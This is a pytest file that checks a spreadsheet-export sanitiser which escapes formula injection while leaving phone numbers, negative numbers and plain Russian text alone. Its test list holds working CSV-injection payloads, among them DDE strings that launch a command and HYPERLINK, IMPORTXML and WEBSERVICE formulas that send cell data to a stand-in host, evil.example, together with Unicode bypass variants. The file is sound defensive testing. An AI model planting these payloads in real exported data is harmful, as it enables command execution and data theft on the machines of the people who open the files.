"""What a spreadsheet would run is made harmless; what merely looks like it is left alone."""

import pytest

from kochka.core.formulas import harmless, is_formula

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"нажми")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "+7+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋cmd",
    "－cmd",
    "＠SUM(1)",
    "﹦1+1",
    "=",
    "-",
    "@анна",
    "- пункт списка",
    "-5;=1+1",
    "-1=1",
]
HARMLESS = [
    "", "Портал", "−5", "-5", "-1 200,50", "- 5", "+7 (495) 123-45-67", "+7 495 123 45 67", "+74951234567",
    "8 (800) 555-35-35",
    "1=1", "a=b", "e-mail@example.org", "№ 118", "«=»", "(495) 123", "-5.25", "+5",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_every_known_injection_is_told_and_stopped(text: str) -> None:
    assert is_formula(text)
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_below_zero_phones_and_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
